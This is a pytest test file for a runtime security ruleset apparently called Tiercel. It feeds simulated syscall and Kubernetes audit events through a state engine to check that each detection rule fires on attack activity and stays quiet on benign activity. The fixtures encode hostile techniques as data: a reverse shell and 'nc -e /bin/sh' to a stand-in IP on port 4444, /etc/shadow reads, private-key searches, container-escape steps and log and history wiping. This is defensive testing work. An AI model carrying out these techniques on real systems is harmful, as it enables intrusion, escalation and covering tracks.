"""Tiercel's default ruleset (services/rules/default_rules.yaml): it loads with no warning, and every
rule fires on the activity it is written for and stays quiet on the benign activity next to it.

Syscall rules are driven by event sequences through the real state engine (a small host: systemd,
sshd, a login shell, nginx, a container), k8s_audit rules by audit events; the conformance captures
(when ../shared is there) add real traces.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import CONFORMANCE, params_by_name
from tiercel.common import eventtable as et
from tiercel.common.event import Event, FdInfo, ThreadInfo
from tiercel.ingest.k8saudit import to_event
from tiercel.ingest.scap import blocks as B
from tiercel.ingest.state import StateEngine
from tiercel.rules.cli import default_rules_path
from tiercel.rules.engine import Engine

DEFAULT = Path(default_rules_path())
CID = "0123456789ab"  # a docker container


def _flags(table: str, *names: str) -> int:
    values = dict(et.flags_table(table))
    out = 0
    for n in names:
        out |= values[n]
    return out


def _enum(table: str, name: str) -> int:
    return dict(et.flags_table(table))[name]


@pytest.fixture(scope="module")
def ruleset():
    outcome = Engine({"rule_matching": "all"}).load([(str(DEFAULT), DEFAULT.read_bytes())])
    assert outcome.successful
    return outcome.ruleset


def test_loads_with_no_warning():
    outcome = Engine({}).load([(str(DEFAULT), DEFAULT.read_bytes())])
    res = outcome.results[0]
    assert res.successful and not res.errors
    assert [(w.code, w.message) for w in res.warnings] == []
    rules = outcome.ruleset.all_rules
    assert len(rules) >= 25 and all(r.enabled_default for r in rules)
    assert {r.source for r in rules} == {"syscall", "k8s_audit"}
    for r in rules:  # every rule restricts its event types (no rule is evaluated on every event)
        assert "tiercel" in r.tags, r.name
        if r.source == "syscall":
            assert 0 < len(r.evttypes) <= 30, (r.name, len(r.evttypes))


class Host:
    """A small Linux host as the state engine sees it; `do` feeds one exit event and returns the
    names of the default rules that fire on it."""

    def __init__(self, ruleset):
        self.rs = ruleset
        self.s = StateEngine()
        self.num = 0
        self.next_tid = 1000
        self.s.feed(B.UserList([B.User(0, 0, "root", "/root", "/bin/bash"),
                                B.User(33, 33, "www-data", "/var/www", "/usr/sbin/nologin"),
                                B.User(1000, 1000, "alice", "/home/alice", "/bin/bash")],
                               [B.Group(0, "root"), B.Group(33, "www-data"), B.Group(1000, "alice")]))
        self.s.feed(B.ProcessList([
            ThreadInfo(1, 1, 0, comm="systemd", exe="/sbin/init", exepath="/sbin/init", cwd="/", uid=0, gid=0),
            ThreadInfo(50, 50, 1, comm="sshd", exe="/usr/sbin/sshd", exepath="/usr/sbin/sshd", cwd="/", uid=0),
            ThreadInfo(100, 100, 50, comm="bash", exe="-bash", exepath="/usr/bin/bash", cwd="/home/alice/",
                       uid=1000, gid=1000, tty=34816, loginuid=1000),
            ThreadInfo(200, 200, 1, comm="nginx", exe="nginx", exepath="/usr/sbin/nginx", cwd="/", uid=33, gid=33),
            ThreadInfo(300, 300, 1, comm="containerd-shim", exe="containerd-shim",
                       exepath="/usr/bin/containerd-shim-runc-v2", cwd="/", uid=0),
        ]))
        self.s.feed(B.FdList(100, [FdInfo(0, "file", "/dev/pts/0"), FdInfo(1, "file", "/dev/pts/0"),
                                   FdInfo(2, "file", "/dev/pts/0")]))
        # The container's first process, started by the shim.
        self.container_init = self.spawn(300, "sh", "/bin/sh", container=True, tty=0)[0]
        self.s.process(Event(self._n(), 1, 0, et.PPME_CONTAINER_JSON_E, [json.dumps({"container": {
            "id": CID, "name": "web", "image": "nginx:1.25", "type": 0, "privileged": False,
            "imagerepo": "nginx", "imagetag": "1.25"}})]))

    def _n(self) -> int:
        self.num += 1
        return self.num

    def do(self, enum: str, thread: int, /, **kw) -> list[str]:
        code, params = params_by_name(enum, kw)
        e = Event(self._n(), 1_718_000_000_000_000_000 + self.num * 1000, thread, code, params)
        self.s.process(e)
        return [m.rule.name for m in self.rs.process(e)]

    def spawn(self, parent: int, comm: str, exepath: str, args: bytes = b"", *, container: bool = False,
              tty: int | None = None, uid: int | None = None, cwd: str | None = None, exe_flags: int = 0,
              res: int = 0) -> tuple[int, list[str]]:
        """fork (child side) + execve; returns the child's tid and the rules the execve fired."""
        p = self.s.threads[parent]
        tid = self.next_tid
        self.next_tid += 1
        cg = f"cpu=/docker/{CID}{'0' * 52}\0".encode() if container or p.container_id else b"cpu=/\0"
        uid = p.uid if uid is None else uid
        self.do("PPME_SYSCALL_CLONE_20_X", tid, res=0, exe=p.exe, args=b"", tid=tid, pid=tid, ptid=parent,
                cwd=cwd or p.cwd, comm=p.comm, cgroups=cg, flags=0, uid=uid, gid=uid, vtid=tid, vpid=tid)
        fired = self.do("PPME_SYSCALL_EXECVE_19_X", tid, res=res, exe=exepath, args=args, tid=tid, pid=tid,
                        ptid=parent, cwd=cwd or p.cwd, comm=comm, cgroups=cg, tty=p.tty if tty is None else tty,
                        loginuid=p.loginuid, flags=exe_flags, uid=uid, trusted_exepath=exepath, gid=uid)
        return tid, fired

    def open(self, tid: int, path: str, *flags: str, fd: int = 7) -> list[str]:
        return self.do("PPME_SYSCALL_OPENAT_2_X", tid, fd=fd, dirfd=-100, name=path,
                       flags=_flags("file_flags", *flags), mode=0o644, dev=0, ino=1)

    def socket(self, tid: int, fd: int, domain: str = "AF_INET", type: int = 1) -> list[str]:
        return self.do("PPME_SOCKET_SOCKET_X", tid, fd=fd, domain=_enum("socket_families", domain), type=type,
                       proto=0)

    def connect(self, tid: int, dst: str, port: int, *, fd: int = 5, res: int = 0) -> list[str]:
        self.socket(tid, fd, "AF_INET6" if ":" in dst else "AF_INET")
        src = "::1" if ":" in dst else "10.0.0.5"
        return self.do("PPME_SOCKET_CONNECT_X", tid, res=res, tuple=(10 if ":" in dst else 2, src, 40000, dst, port),
                       fd=fd)

    def connect_unix(self, tid: int, path: str, *, fd: int = 6) -> list[str]:
        self.socket(tid, fd, "AF_UNIX")
        return self.do("PPME_SOCKET_CONNECT_X", tid, res=0, tuple=(1, 0xFFFF88003C420000, 0xFFFF88003C420800, path),
                       fd=fd)


@pytest.fixture
def host(ruleset) -> Host:
    return Host(ruleset)


def _shell_from_nginx(h: Host) -> list[str]:
    return h.spawn(200, "sh", "/bin/sh", b"-c\0id\0")[1]


def _reverse_shell(h: Host, shell: str) -> list[str]:
    tid = h.spawn(100, shell, f"/bin/{shell}")[0]
    h.connect(tid, "203.0.113.9", 4444, fd=5)
    return h.do("PPME_SYSCALL_DUP2_X", tid, res=1, oldfd=5, newfd=1)


# rule -> (fire, quiet): each a scenario on a fresh host returning the rules fired by its last event.
SYSCALL_CASES: dict[str, tuple[Callable[[Host], list[str]], Callable[[Host], list[str]]]] = {
    "Shell spawned by a non-shell parent": (
        _shell_from_nginx,
        lambda h: h.spawn(50, "bash", "/usr/bin/bash")[1],  # sshd starting a login shell
    ),
    "Sensitive file read by untrusted program": (
        lambda h: h.open(h.spawn(100, "python3", "/usr/bin/python3")[0], "/etc/shadow", "O_RDONLY"),
        lambda h: h.open(h.spawn(50, "sshd", "/usr/sbin/sshd")[0], "/etc/shadow", "O_RDONLY"),
    ),
    "Outbound connection from a shell or network tool": (
        lambda h: h.connect(h.spawn(100, "ncat", "/usr/bin/ncat")[0], "203.0.113.9", 4444),
        lambda h: h.connect(h.spawn(100, "curl", "/usr/bin/curl")[0], "93.184.216.34", 443),
    ),
    "Write below binary directory": (
        lambda h: h.open(h.spawn(100, "python3", "/usr/bin/python3", uid=0)[0], "/usr/bin/ls", "O_WRONLY",
                         "O_TRUNC"),
        lambda h: h.open(h.spawn(100, "dpkg", "/usr/bin/dpkg", uid=0)[0], "/usr/bin/ls", "O_WRONLY", "O_TRUNC"),
    ),
    "Write below etc": (
        lambda h: h.open(h.spawn(100, "python3", "/usr/bin/python3", uid=0)[0], "/etc/cron.d/job", "O_WRONLY",
                         "O_CREAT"),
        lambda h: h.open(h.spawn(100, "python3", "/usr/bin/python3", uid=0)[0], "/etc/hosts", "O_RDONLY"),
    ),
    "Kernel module loaded": (
        lambda h: h.do("PPME_SYSCALL_FINIT_MODULE_X", h.spawn(100, "insmod", "/usr/sbin/insmod", uid=0)[0],
                       res=0, fd=3, uargs="", flags=0),
        lambda h: h.open(h.spawn(100, "modinfo", "/usr/sbin/modinfo")[0], "/lib/modules/x.ko", "O_RDONLY"),
    ),
    "Process attached with ptrace": (
        lambda h: h.do("PPME_SYSCALL_PTRACE_X", h.spawn(100, "injector", "/tmp/injector")[0], res=0, addr=0,
                       data=0, request=_enum("ptrace_requests", "PTRACE_ATTACH"), pid=200),
        lambda h: h.do("PPME_SYSCALL_PTRACE_X", h.spawn(100, "gdb", "/usr/bin/gdb")[0], res=0, addr=0, data=0,
                       request=_enum("ptrace_requests", "PTRACE_ATTACH"), pid=200),
    ),
    "Namespace escape tool run in container": (
        lambda h: h.spawn(h.container_init, "nsenter", "/usr/bin/nsenter", b"-t\x001\0-m\0")[1],
        lambda h: h.spawn(100, "nsenter", "/usr/bin/nsenter", b"-t\x001\0-m\0")[1],  # on the host
    ),
    "Cgroup release agent written in container": (
        lambda h: h.open(h.container_init, "/sys/fs/cgroup/rdma/release_agent", "O_WRONLY"),
        lambda h: h.open(h.container_init, "/sys/fs/cgroup/rdma/release_agent", "O_RDONLY"),
    ),
    "Container runtime socket opened in container": (
        lambda h: h.connect_unix(h.container_init, "/var/run/docker.sock"),
        lambda h: h.connect_unix(h.spawn(100, "docker", "/usr/bin/docker")[0], "/var/run/docker.sock"),
    ),
    "Interactive shell in container": (
        lambda h: h.spawn(h.container_init, "bash", "/bin/bash", tty=34817)[1],
        lambda h: h.spawn(h.container_init, "bash", "/bin/bash", b"-c\0/entrypoint.sh\0", tty=0)[1],
    ),
    "Program run from shared memory": (
        lambda h: h.spawn(100, "payload", "/dev/shm/payload")[1],
        lambda h: h.spawn(100, "ls", "/usr/bin/ls", b"/dev/shm\0")[1],
    ),
    "Fileless program execution": (
        lambda h: h.spawn(100, "3", "memfd:x", exe_flags=_flags("execve_flags", "EXE_FROM_MEMFD"))[1],
        lambda h: h.spawn(100, "ls", "/usr/bin/ls", exe_flags=_flags("execve_flags", "EXE_LOWER_LAYER"))[1],
    ),
    "Shell standard streams redirected to network": (
        lambda h: _reverse_shell(h, "bash"),
        lambda h: h.do("PPME_SYSCALL_DUP2_X", h.spawn(100, "bash", "/bin/bash")[0], res=1, oldfd=2, newfd=1),
    ),
    "Packet socket created": (
        lambda h: h.socket(h.spawn(100, "sniffer", "/tmp/sniffer", uid=0)[0], 4, "AF_PACKET", 3),
        lambda h: h.socket(h.spawn(100, "tcpdump", "/usr/bin/tcpdump", uid=0)[0], 4, "AF_PACKET", 3),
    ),
    "Network tool run in container": (
        lambda h: h.spawn(h.container_init, "nmap", "/usr/bin/nmap", b"-sS\x0010.0.0.0/24\0")[1],
        lambda h: h.spawn(h.container_init, "curl", "/usr/bin/curl", b"localhost\0")[1],
    ),
    "User account management program run": (
        lambda h: h.spawn(100, "useradd", "/usr/sbin/useradd", b"-m\0mallory\0", uid=0)[1],
        lambda h: h.spawn(h.spawn(100, "dpkg", "/usr/bin/dpkg", uid=0)[0], "useradd", "/usr/sbin/useradd",
                          b"-r\0_apt\0", uid=0)[1],
    ),
    "Symlink created to a sensitive file": (
        lambda h: h.do("PPME_SYSCALL_SYMLINKAT_X", h.spawn(100, "ln", "/usr/bin/ln")[0], res=0,
                       target="/etc/shadow", linkdirfd=-100, linkpath="/tmp/s"),
        lambda h: h.do("PPME_SYSCALL_SYMLINKAT_X", h.spawn(100, "ln", "/usr/bin/ln")[0], res=0,
                       target="/etc/hosts", linkdirfd=-100, linkpath="/tmp/s"),
    ),
    "Log file truncated": (
        lambda h: h.open(h.spawn(100, "python3", "/usr/bin/python3", uid=0)[0], "/var/log/auth.log",
                         "O_WRONLY", "O_TRUNC"),
        lambda h: h.open(h.spawn(1, "logrotate", "/usr/sbin/logrotate", uid=0)[0], "/var/log/auth.log",
                         "O_WRONLY", "O_TRUNC"),
    ),
    "Shell history deleted or emptied": (
        lambda h: h.open(100, "/home/alice/.bash_history", "O_WRONLY", "O_TRUNC"),
        lambda h: h.open(100, "/home/alice/.bash_history", "O_WRONLY", "O_APPEND"),  # bash saving history
    ),
    "Search for private keys or credentials": (
        lambda h: h.spawn(100, "grep", "/usr/bin/grep", b"-r\0BEGIN RSA PRIVATE\0/home\0")[1],
        lambda h: h.spawn(100, "grep", "/usr/bin/grep", b"-r\0TODO\0/home/alice/src\0")[1],
    ),
    "Netcat started with a command to run": (
        lambda h: h.spawn(200, "nc", "/usr/bin/nc", b"-e\0/bin/sh\x00203.0.113.9\x004444\0")[1],
        lambda h: h.spawn(100, "nc", "/usr/bin/nc", b"-zv\0db.internal\x005432\0")[1],
    ),
}


def test_history_removed_with_unlink_fires(host):
    rm = host.spawn(100, "rm", "/usr/bin/rm", b"/home/alice/.zsh_history\0")[0]
    assert host.do("PPME_SYSCALL_UNLINKAT_2_X", rm, res=0, dirfd=-100, name="/home/alice/.zsh_history",
                   flags=0) == ["Shell history deleted or emptied"]
    assert host.do("PPME_SYSCALL_UNLINKAT_2_X", rm, res=0, dirfd=-100, name="/home/alice/notes.txt", flags=0) == []
    assert host.do("PPME_SYSCALL_UNLINKAT_2_X", rm, res=-2, dirfd=-100, name="/home/alice/.bash_history",
                   flags=0) == []


@pytest.mark.parametrize("rule", sorted(SYSCALL_CASES))
def test_syscall_rule_fires(rule, ruleset):
    assert rule in SYSCALL_CASES[rule][0](Host(ruleset))


@pytest.mark.parametrize("rule", sorted(SYSCALL_CASES))
def test_syscall_rule_stays_quiet_on_benign_activity(rule, ruleset):
    fired = SYSCALL_CASES[rule][1](Host(ruleset))
    assert rule not in fired


def test_benign_host_activity_fires_nothing(host):
    """A login session's everyday work: nothing in the default ruleset fires."""
    ls, fired = host.spawn(100, "ls", "/usr/bin/ls", b"-l\0")
    assert fired == []
    assert host.open(ls, "/etc/passwd", "O_RDONLY") == []
    assert host.open(ls, "/home/alice/notes.txt", "O_RDWR", "O_CREAT") == []
    ssh = host.spawn(100, "ssh", "/usr/bin/ssh", b"git@example.com\0")[0]
    assert host.connect(ssh, "198.51.100.7", 22) == []
    assert host.spawn(100, "vim", "/usr/bin/vim", b"/etc/hosts\0")[1] == []
    apt = host.spawn(100, "apt-get", "/usr/bin/apt-get", b"install\0curl\0", uid=0)[0]
    assert host.connect(apt, "151.101.2.132", 80) == []
    dpkg = host.spawn(apt, "dpkg", "/usr/bin/dpkg", uid=0)[0]
    assert host.open(dpkg, "/usr/bin/curl", "O_WRONLY", "O_CREAT") == []
    assert host.open(dpkg, "/etc/curlrc", "O_WRONLY", "O_CREAT") == []
    nginx_worker = host.spawn(200, "nginx", "/usr/sbin/nginx")[0]
    assert host.open(nginx_worker, "/var/www/index.html", "O_RDONLY") == []
    assert host.open(nginx_worker, "/var/log/nginx/access.log", "O_WRONLY", "O_APPEND") == []


def test_shell_on_loopback_is_quiet_and_reverse_shell_fires_both_rules(host):
    sh = host.spawn(100, "bash", "/usr/bin/bash")[0]
    assert host.connect(sh, "127.0.0.1", 8080) == []
    assert set(_reverse_shell(host, "sh")) == {"Shell standard streams redirected to network"}
    assert host.connect(host.spawn(100, "sh", "/bin/sh")[0], "203.0.113.9", 4444, fd=9) == [
        "Outbound connection from a shell or network tool"]


def test_failed_syscalls_do_not_fire(host):
    assert host.spawn(200, "sh", "/bin/sh", res=-2)[1] == []  # execve failed (ENOENT)
    py = host.spawn(100, "python3", "/usr/bin/python3")[0]
    assert host.open(py, "/etc/shadow", "O_RDONLY", fd=-13) == []  # EACCES
    sh = host.spawn(100, "sh", "/bin/sh")[0]
    assert host.connect(sh, "203.0.113.9", 4444, res=-111) == []  # ECONNREFUSED


# --- k8s_audit --------------------------------------------------------------------------------

def audit(verb: str, resource: str, *, user: str = "alice@example.com", namespace: str | None = "default",
          name: str | None = "x", subresource: str | None = None, stage: str = "ResponseComplete",
          request: dict | None = None, decision: str = "allow", uri: str | None = None) -> Event:
    ref = {"resource": resource, "apiVersion": "v1"}
    if namespace:
        ref["namespace"] = namespace
    if name:
        ref["name"] = name
    if subresource:
        ref["subresource"] = subresource
    obj = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": "id-1",
           "stage": stage, "requestURI": uri or f"/api/v1/namespaces/{namespace}/{resource}", "verb": verb,
           "user": {"username": user}, "objectRef": ref, "stageTimestamp": "2024-06-10T06:13:20.123456Z",
           "annotations": {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": ""},
           "responseStatus": {"code": 201}}
    if request is not None:
        obj["requestObject"] = request
    return to_event(obj, 1)


def pod(**spec) -> dict:
    containers = spec.pop("containers", [{"name": "web", "image": "nginx:1.25"}])
    return {"kind": "Pod", "spec": {"containers": containers, **spec}}


K8S_CASES: dict[str, tuple[Event, Event]] = {
    "K8s exec or attach into pod": (
        audit("create", "pods", subresource="exec", stage="ResponseStarted",
              uri="/api/v1/namespaces/default/pods/x/exec?command=bash&stdin=true&tty=true"),
        audit("get", "pods", subresource="log"),
    ),
    "K8s privileged pod created": (
        audit("create", "pods", request=pod(containers=[
            {"name": "a", "image": "nginx"}, {"name": "b", "image": "busybox", "securityContext": {"privileged": True}}])),
        audit("create", "pods", request=pod(containers=[
            {"name": "a", "image": "nginx", "securityContext": {"privileged": False}}])),
    ),
    "K8s pod with sensitive host mount created": (
        audit("create", "pods", request=pod(volumes=[{"name": "h", "hostPath": {"path": "/etc"}}])),
        audit("create", "pods", request=pod(volumes=[{"name": "h", "hostPath": {"path": "/var/data"}},
                                                     {"name": "c", "configMap": {"name": "cfg"}}])),
    ),
    "K8s pod sharing host namespaces created": (
        audit("create", "pods", request=pod(hostPID=True)),
        audit("create", "pods", request=pod(hostNetwork=False)),
    ),
    "K8s cluster role with wildcard created": (
        audit("create", "clusterroles", namespace=None,
              request={"rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": ["*"]}]}),
        audit("create", "clusterroles", namespace=None,
              request={"rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list"]}]}),
    ),
    "K8s binding to cluster-admin created": (
        audit("create", "clusterrolebindings", namespace=None,
              request={"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
                       "subjects": [{"kind": "User", "name": "mallory"}]}),
        audit("create", "clusterrolebindings", namespace=None,
              request={"roleRef": {"kind": "ClusterRole", "name": "view"},
                       "subjects": [{"kind": "User", "name": "bob"}]}),
    ),
    "K8s secret read by non-system user": (
        audit("get", "secrets", name="db-password"),
        audit("get", "secrets", name="db-password", user="system:serviceaccount:kube-system:default"),
    ),
    "K8s anonymous request allowed": (
        audit("create", "namespaces", user="system:anonymous", namespace=None, uri="/api/v1/namespaces"),
        audit("get", "version", user="system:anonymous", namespace=None, name=None, uri="/healthz"),
    ),
    "K8s NodePort service created": (
        audit("create", "services", request={"spec": {"type": "NodePort", "ports": [{"port": 80}]}}),
        audit("create", "services", request={"spec": {"type": "ClusterIP", "ports": [{"port": 80}]}}),
    ),
    "K8s pod created in system namespace by user": (
        audit("create", "pods", namespace="kube-system", name=None, request=pod()),
        audit("create", "pods", namespace="kube-system", name=None, request=pod(),
              user="system:serviceaccount:kube-system:replicaset-controller"),
    ),
    "K8s configmap with credentials": (
        audit("create", "configmaps", request={"data": {"settings": "db_password: hunter2"}}),
        audit("create", "configmaps", request={"data": {"settings": "log_level: debug"}}),
    ),
}


def _fired(ruleset, evt: Event) -> list[str]:
    return [m.rule.name for m in ruleset.process(evt)]


@pytest.mark.parametrize("rule", sorted(K8S_CASES))
def test_k8s_rule_fires_and_stays_quiet(rule, ruleset):
    fire, quiet = K8S_CASES[rule]
    assert rule in _fired(ruleset, fire)
    assert rule not in _fired(ruleset, quiet)


def test_every_rule_has_a_fire_and_a_quiet_test(ruleset):
    assert {r.name for r in ruleset.all_rules} == set(SYSCALL_CASES) | set(K8S_CASES)


# --- the conformance captures ------------------------------------------------------------------

K8S_TRACES = {  # audit trace -> default rules it must fire (every other trace: none)
    "anonymous_creates_namespace_foo.json": {"K8s anonymous request allowed"},
    "create_cluster_role_wildcard_resources.json": {"K8s cluster role with wildcard created"},
    "create_cluster_role_wildcard_verbs.json": {"K8s cluster role with wildcard created"},
    "create_configmap_sensitive_values.json": {"K8s configmap with credentials"},
    "create_nginx_pod_hostnetwork.json": {"K8s pod sharing host namespaces created"},
    "create_nginx_pod_no_secctx_1st_container_privileged_2nd_container.json": {"K8s privileged pod created"},
    "create_nginx_pod_privileged.json": {"K8s privileged pod created"},
    "create_nginx_pod_privileged_2nd_container.json": {"K8s privileged pod created"},
    "create_nginx_pod_sensitive_mount.json": {"K8s pod with sensitive host mount created"},
    "create_nginx_pod_sensitive_mount_2nd_container.json": {"K8s pod with sensitive host mount created"},
    "exec_pod.json": {"K8s exec or attach into pod"},
}


def test_conformance_captures(ruleset):
    from tiercel.rules.replay import read_trace

    traces = CONFORMANCE / "traces"
    if not traces.is_dir():
        pytest.skip("../shared/conformance is absent")
    seen: dict[str, set[str]] = {}
    for path in sorted([*traces.glob("*.scap"), *traces.glob("libs/*.scap"), *traces.glob("k8s_audit/*.json")]):
        seen[path.name] = {m.rule.name for e in read_trace(str(path)) for m in ruleset.process(e)}
    assert len(seen) >= 30
    expected = dict.fromkeys(seen, set()) | K8S_TRACES  # the syscall captures are benign (curl, cat, ...)
    assert seen == expected
